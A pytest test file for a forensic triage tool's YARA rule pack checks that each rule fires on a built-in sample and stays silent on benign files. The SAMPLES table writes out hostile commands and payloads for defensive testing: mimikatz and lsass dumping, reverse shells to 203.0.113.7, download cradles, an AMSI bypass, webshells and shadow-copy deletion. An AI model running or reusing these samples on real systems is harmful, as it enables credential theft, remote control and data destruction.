"""The shipped rule pack: every rule fires on a sample in the form it takes in a bundle, none fires on
the benign files of the shared corpus (raw or decoded), and the pack is lint-clean.

Samples are built here, not stored: command lines and script blocks become the typed records the
parsers produce (scanned as decoded content) and are also embedded as UTF-16LE in a binary blob, the
way an event log or a hive stores them (scanned as a file); files are scanned as files.
"""

from __future__ import annotations

import struct
from datetime import UTC, datetime
from pathlib import Path

import pytest
from _host_tree_inventory import is_attack_set

from triage.model import (
    Autorun,
    BrowserVisit,
    CommandHistory,
    Event,
    Issue,
    Source,
)
from triage.parsers.base import input_from_file
from triage.scan.lint import lint_file, parse_rules
from triage.scan.rules import pack_dir
from triage.scan.yara import YaraHit, YaraScanner

T0 = datetime(2024, 3, 1, 12, 0, tzinfo=UTC)
B64 = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
APTSIM = "evtx/museum-win10-aptsimulatorvm"
APTSIM_DEFENDER = "defender/museum-win10-aptsimulatorvm"


def _pe(*strings: str, wide: bool = False) -> bytes:
    """A minimal MZ/PE-looking file carrying the given strings in its data (as a tool's binary would)."""
    head = b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 0x80) + b"\x00" * (0x80 - 64) + b"PE\x00\x00"
    body = b"\x00".join(s.encode("utf-16-le") if wide else s.encode() for s in strings)
    return head + b"\x00" * 256 + body + b"\x00" * 64


# form: 'cmd' (process command line), 'script' (4104 script block), 'autorun' (service / Run command),
# 'history' (PSReadLine line), 'url' (browser visit), 'file' (raw bytes of a bundle file)
SAMPLES: dict[str, tuple[str, str | bytes]] = {
    # credential theft
    "CredTheft_Mimikatz_Commands": ("cmd", r'C:\TMP\mim.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
    "CredTheft_Mimikatz_Binary": ("file", _pe("mimikatz 2.2.0 x64", "gentilkiwi", "Benjamin DELPY",
                                              "kiwi_msv1_0", wide=True)),
    "CredTheft_Comsvcs_MiniDump": ("cmd", r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 "
                                          r"C:\Users\Public\l.dmp full"),
    "CredTheft_Procdump_Lsass": ("cmd", r"C:\Users\Public\procdump64.exe -accepteula -ma lsass.exe "
                                        r"C:\Users\Public\lsass.dmp"),
    "CredTheft_Lsass_Dump_PowerShell": ("script", "Import-Module .\\Out-Minidump.ps1; Get-Process lsass | "
                                                  "Out-Minidump -DumpFilePath C:\\Users\\Public"),
    "CredTheft_Registry_Hive_Save": ("cmd", r"reg save HKLM\SAM C:\Users\Public\sam.save /y"),
    "CredTheft_NTDS_Extraction": ("cmd", r'ntdsutil "ac i ntds" "ifm" "create full c:\temp\x" q q'),
    "CredTheft_Rubeus_Kerberos": ("cmd", r"C:\Users\Public\Rubeus.exe kerberoast /outfile:h.txt"),
    # c2
    "C2_CobaltStrike_Named_Pipes": ("file", "\x00".join(["PipeName", r"\MSSE-4821-server", "Image",
                                                         r"C:\Windows\System32\rundll32.exe"]).encode("utf-16-le")),
    "C2_CobaltStrike_Beacon_Strings": ("file", _pe("beacon.x64.dll", "ReflectiveLoader", "%s as %s\\%s: %d",
                                                   "could not spawn %s: %d")),
    "C2_CobaltStrike_PowerShell_Stager": ("script", "Set-StrictMode -Version 2\n$DoIt = @'\nfunction "
                                                    "func_get_proc_address {\n Param ($var_module, $var_procedure)\n"
                                                    "}\nfunction func_get_delegate_type {}\n[Byte[]]$var_code = "
                                                    "[System.Convert]::FromBase64String('AAAA')\n'@"),
    "C2_PsExec_PowerShell_Service": ("autorun", "%COMSPEC% /b /c start /b /min powershell -nop -w hidden "
                                                f"-encodedcommand {B64}"),
    "C2_Sliver_Implant": ("file", _pe("github.com/bishopfox/sliver/implant/sliver/transports",
                                      "sliverpb.Envelope")),
    "C2_Metasploit_Meterpreter": ("file", _pe("metsrv.dll", "ReflectiveLoader", "stdapi_sys_process_execute",
                                              "core_channel_open")),
    "C2_Metasploit_PowerShell_Payload": ("script", "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("
                                                   "'H4sIAAAAAAAA'));IEX (New-Object IO.StreamReader(New-Object "
                                                   "IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]"
                                                   "::Decompress))).ReadToEnd();"),
    "C2_Reverse_Shell_Unix": ("history", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    "C2_Reverse_Shell_PowerShell": ("script", "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',"
                                              "443);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
                                              "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = "
                                              "(New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0,"
                                              " $i);$sendback = (iex $data 2>&1 | Out-String )}"),
    # powershell
    "PS_Download_Cradle": ("cmd", "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString("
                                  "'http://203.0.113.7/a.ps1')\""),
    "PS_Encoded_Command": ("cmd", f"powershell.exe -NoProfile -EncodedCommand {B64}"),
    "PS_Hidden_Bypass_Launch": ("cmd", r"powershell.exe -w hidden -ep bypass -File C:\Users\Public\a.ps1"),
    "PS_AMSI_Bypass": ("script", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
                                 ".GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"),
    "PS_Invoke_Mimikatz": ("script", "IEX (Get-Content .\\im.ps1 -Raw); Invoke-Mimikatz -DumpCreds"),
    "PS_PowerSploit_Offensive": ("script", "Invoke-ReflectivePEInjection -PEBytes $bytes -ProcId 4242"),
    "PS_PowerView_Recon": ("history", "Invoke-ShareFinder -CheckShareAccess"),
    "PS_Reflective_Assembly_Load": ("script", "$a = [System.Reflection.Assembly]::Load([Convert]::"
                                              "FromBase64String($b)); $a.EntryPoint.Invoke($null, $null)"),
    "PS_Shellcode_Runner": ("script", "$p = [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer("
                                      "(LookupFunc kernel32.dll VirtualAlloc), (getDelegateType @([IntPtr], "
                                      "[UInt32], [UInt32], [UInt32]) ([IntPtr])))"),
    # webshells
    "Webshell_China_Chopper": ("file", b'<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>'),
    "Webshell_PHP_Eval_Encoded": ("file", b"<?php @eval(base64_decode($_POST['c'])); ?>"),
    "Webshell_PHP_Command_Exec": ("file", b"<?php if(isset($_GET['x'])){ echo shell_exec($_GET['x']); } ?>"),
    "Webshell_ASPX_Command_Shell": ("file", b'<%@ Page Language="C#" %><script runat="server">void Page_Load()'
                                           b'{ var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + '
                                           b'Request.Form["c"]); System.Diagnostics.Process.Start(p); }</script>'),
    "Webshell_JSP_Command_Exec": ("file", b'<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));'
                                         b" %>"),
    "Webshell_Known_Kits": ("file", b"<?php $default_action = 'FilesMan'; @ini_set('error_log',NULL); ?>"),
    # ransomware
    "Ransom_Note_Phrases": ("file", "ATTENTION!\r\nAll your files have been encrypted!\r\n".encode("utf-16")),
    "Ransom_Note_Payment": ("file", b"To decrypt your data install Tor Browser and open "
                                    b"http://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrst.onion/ "
                                    b"Pay 0.5 bitcoin to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"),
    "Ransom_Shadow_Copy_Deletion": ("cmd", "vssadmin.exe delete shadows /all /quiet"),
    "Ransom_Backup_Catalog_Deletion": ("cmd", "wbadmin delete catalog -quiet"),
    "Ransom_Boot_Recovery_Disabled": ("cmd", "bcdedit /set {default} recoveryenabled No"),
    # lolbins
    "LOLBin_Certutil_Download": ("cmd", r"certutil.exe -urlcache -split -f http://203.0.113.7/p.exe "
                                        r"C:\Users\Public\p.exe"),
    "LOLBin_Certutil_Decode": ("cmd", r"certutil -decode C:\Users\Public\p.txt C:\Users\Public\p.exe"),
    "LOLBin_Bitsadmin_Transfer": ("cmd", r"bitsadmin /transfer job /download /priority high "
                                         r"http://203.0.113.7/p.exe C:\Users\Public\p.exe"),
    "LOLBin_Mshta_Remote_Script": ("cmd", "mshta.exe http://203.0.113.7/a.hta"),
    "LOLBin_Regsvr32_Squiblydoo": ("cmd", "regsvr32 /s /n /u /i:http://203.0.113.7/file.sct scrobj.dll"),
    "LOLBin_Rundll32_Script": ("cmd", 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";'
                                      'document.write();GetObject("script:http://203.0.113.7/x")'),
    "LOLBin_WMIC_Process_Create": ("cmd", 'wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"'),
    "LOLBin_Msiexec_Remote_Package": ("cmd", "msiexec /i http://203.0.113.7/p.msi /quiet"),
    # persistence
    "Persist_Schtasks_Suspicious_Action": ("cmd", r'schtasks /create /sc minute /mo 30 /tn "Updater" /tr '
                                                  r'"powershell -w hidden -File C:\Users\Public\u.ps1"'),
    "Persist_Run_Key_Added": ("cmd", r'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater '
                                     r'/t REG_SZ /d "C:\Users\Public\u.exe" /f'),
    "Persist_Service_UserWritable_Binary": ("cmd", r'sc create Updater binPath= "C:\Users\Public\svc.exe" '
                                                   r"start= auto"),
    "Persist_WMI_Event_Subscription": ("script", "$f = Set-WmiInstance -Class __EventFilter -Namespace "
                                                 "root\\subscription -Arguments @{Name='u'}; $c = Set-WmiInstance "
                                                 "-Class CommandLineEventConsumer -Namespace root\\subscription; "
                                                 "Set-WmiInstance -Class __FilterToConsumerBinding -Arguments "
                                                 "@{Filter=$f;Consumer=$c}"),
    "Persist_IFEO_Debugger": ("cmd", r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File '
                                     r'Execution Options\sethc.exe" /v Debugger /t REG_SZ /d cmd.exe /f'),
    "Persist_Accessibility_Binary_Replaced": ("cmd", r"cmd /c copy /y C:\Windows\System32\cmd.exe "
                                                     r"C:\Windows\System32\utilman.exe"),
    "Persist_Winlogon_Hijack": ("cmd", r'reg add "HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon" '
                                       r'/v Userinit /d "C:\Windows\system32\userinit.exe,C:\Users\Public\u.exe" /f'),
}


def _rule_defs() -> dict:
    return {r.name: r for path in sorted(pack_dir().rglob("*.yar")) for r in parse_rules(path.read_text())}


RULES = _rule_defs()


def pack_rules() -> list[tuple[str, str]]:
    """(namespace file, rule name) of every rule in the pack, read from the sources."""
    root = pack_dir()
    assert root is not None, "the rule pack was not found"
    out = []
    for path in sorted(root.rglob("*.yar")):
        out.extend((str(path.relative_to(root)), r.name) for r in parse_rules(path.read_text()))
    return out


@pytest.fixture(scope="session")
def pack_scanner() -> YaraScanner:
    scanner = YaraScanner()
    assert scanner.issues == [], scanner.issues
    return scanner


def _record(form: str, text: str):
    src = Source(bundle_path="files/C/sample", locator="record 1")
    if form == "cmd":
        return Event(source=src, timestamp=T0, channel="Microsoft-Windows-Sysmon/Operational", provider="Sysmon",
                     event_id=1, record_id=1, computer="h", category="process", description="",
                     fields={"command_line": text})
    if form == "script":
        return Event(source=src, timestamp=T0, channel="Microsoft-Windows-PowerShell/Operational",
                     provider="PowerShell", event_id=4104, record_id=1, computer="h",
                     category="powershell_script", description="",
                     fields={"script_block": text, "script_block_id": "x", "message_total": 1})
    if form == "autorun":
        return Autorun(source=src, category="service", location=r"HKLM\SYSTEM\CurrentControlSet\Services\x",
                       name="x", command=text)
    if form == "history":
        return CommandHistory(source=src, shell="powershell", user="u", line_number=1, command=text)
    if form == "url":
        return BrowserVisit(source=src, browser="chrome", user="u", timestamp=T0, url=text)
    raise AssertionError(form)


def test_every_rule_has_a_sample():
    names = [name for _, name in pack_rules()]
    assert len(names) == len(set(names)), "rule names must be unique across the pack"
    assert set(names) - set(SAMPLES) == set(), "rules without a positive sample"
    assert set(SAMPLES) - set(names) == set(), "samples for rules that do not exist"
    assert len(names) >= 30


def test_every_rule_has_complete_meta():
    for path in sorted(pack_dir().rglob("*.yar")):
        assert lint_file(path) == [], path


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_rule_fires_on_its_sample(pack_scanner, rule):
    form, payload = SAMPLES[rule]
    if form == "file":
        hits = [h for h in pack_scanner.scan_bytes(payload, Source(bundle_path="files/C/sample"))
                if isinstance(h, YaraHit)]
        assert rule in {h.rule for h in hits}
        return
    # decoded content, as the parsers yield it
    hits = [h for h in pack_scanner.scan_records([_record(form, payload)]) if isinstance(h, YaraHit)]
    mine = [h for h in hits if h.rule == rule]
    assert mine, f"{rule} did not fire on {payload!r}: got {[h.rule for h in hits]}"
    assert mine[0].target == "decoded" and mine[0].source.locator == "record 1"
    assert mine[0].strings and all(o >= 0 for _, o, _ in mine[0].strings)
    # raw file content, as an event log / hive stores the same text (UTF-16LE among binary data):
    # rules made only of fixed text strings match it raw too (regexes are ascii-only by design, the
    # decoded scan covers event logs for them: see yara_rules/README.md)
    if not all(s.kind == "text" and "wide" in s.modifiers for s in RULES[rule].strings):
        return
    raw = b"\x2a\x2a\x00\x00ElfChnk\x00" + b"\x00" * 40 + payload.encode("utf-16-le") + b"\x00\x00" * 8
    raw_hits = {h.rule for h in pack_scanner.scan_bytes(raw, Source(bundle_path="files/C/x.evtx"))
                if isinstance(h, YaraHit)}
    assert rule in raw_hits, f"{rule} misses the UTF-16LE form"


def _benign_corpus_files(corpus: Path) -> list[Path]:
    return sorted(p for p in corpus.rglob("*") if p.is_file() and not is_attack_set(p.relative_to(corpus).as_posix()))


def test_benign_selection_leaves_out_every_attack_set(corpus):
    """Every *aptsimulatorvm* folder of the corpus is left out, whatever the artifact folder, and
    nothing else is."""
    every = [p.relative_to(corpus).as_posix() for p in corpus.rglob("*") if p.is_file()]
    benign = {p.relative_to(corpus).as_posix() for p in _benign_corpus_files(corpus)}
    left_out = set(every) - benign
    assert {r.split("/")[0] for r in left_out} >= {"evtx", "defender"}
    assert all("aptsimulatorvm" in r.lower() for r in left_out)
    assert not any("aptsimulatorvm" in r.lower() for r in benign)


def test_pack_has_no_hits_on_benign_corpus_files(pack_scanner, corpus):
    files = _benign_corpus_files(corpus)
    assert len(files) > 250
    hits, issues = [], []
    for item in pack_scanner.scan_paths_parallel(files, jobs=2, root=corpus):
        (hits if isinstance(item, YaraHit) else issues).append(item)
    assert hits == [], [(h.rule, h.source.bundle_path, h.strings[:2]) for h in hits]
    # every file was read: the only issues are damaged MAM prefetch samples that cannot be decompressed
    assert all(i.severity != "error" for i in issues), issues
    assert all("prefetch" in (i.source.bundle_path if i.source else "") for i in issues), issues


def _evtx_records(path: Path) -> list:
    from triage.parsers.evtx.parser import EvtxParser

    return [r for r in EvtxParser().parse(input_from_file(path)) if not isinstance(r, Issue)]


def test_pack_has_no_hits_on_decoded_benign_event_logs(pack_scanner, corpus):
    logs = [p for p in _benign_corpus_files(corpus) if p.suffix == ".evtx"]
    records = [r for p in logs for r in _evtx_records(p)]
    assert any(isinstance(r, Event) and r.category == "process" for r in records)
    hits = [h for h in pack_scanner.scan_records(records) if isinstance(h, YaraHit)]
    assert hits == [], [(h.rule, h.source, h.strings[:2]) for h in hits]


def test_pack_finds_the_attack_simulation_in_real_logs(pack_scanner, corpus):
    """The APTSimulator VM's logs (the corpus's one non-benign set) record mimikatz runs, an IFEO
    debugger backdoor and a Run key: the pack sees the mimikatz commands in the raw log and all three
    in the decoded command lines."""
    sysmon = corpus / APTSIM / "Microsoft-Windows-Sysmon%4Operational.evtx"
    raw = {h.rule for h in pack_scanner.scan_bytes(sysmon.read_bytes(), Source(bundle_path="sysmon.evtx"))
           if isinstance(h, YaraHit)}
    assert "CredTheft_Mimikatz_Commands" in raw
    decoded = [h for h in pack_scanner.scan_records(_evtx_records(sysmon)) if isinstance(h, YaraHit)]
    assert {"CredTheft_Mimikatz_Commands", "Persist_IFEO_Debugger", "Persist_Run_Key_Added"} <= {
        h.rule for h in decoded}
    mimi = [h for h in decoded if h.rule == "CredTheft_Mimikatz_Commands"]
    assert mimi and all(h.field == "command_line" and h.source.locator.startswith("record ") for h in mimi)
    assert all(h.when is not None and h.when.tzinfo is not None for h in mimi)
    ps = corpus / APTSIM / "Microsoft-Windows-PowerShell%4Operational.evtx"
    decoded_ps = {h.rule for h in pack_scanner.scan_records(_evtx_records(ps)) if isinstance(h, YaraHit)}
    assert "Persist_WMI_Event_Subscription" in decoded_ps


def test_pack_finds_the_attack_simulation_in_defender_logs(pack_scanner, corpus):
    """The same VM's Defender support log (UTF-16 MPLog) reports the mimikatz command lines it saw
    ("command line reported as lowfi: ... sekurlsa::LogonPasswords"): the raw file scan catches them."""
    logs = sorted((corpus / APTSIM_DEFENDER).rglob("MPLog-*.log"))
    assert logs
    hits = [h for log in logs for h in pack_scanner.scan_bytes(
        log.read_bytes(), Source(bundle_path=log.relative_to(corpus).as_posix())) if isinstance(h, YaraHit)]
    mimi = [h for h in hits if h.rule == "CredTheft_Mimikatz_Commands"]
    assert mimi and mimi[0].severity == "critical" and mimi[0].target == "file"
    assert any("sekurlsa::logonpasswords" in d.lower() for h in mimi for _i, _o, d in h.strings)
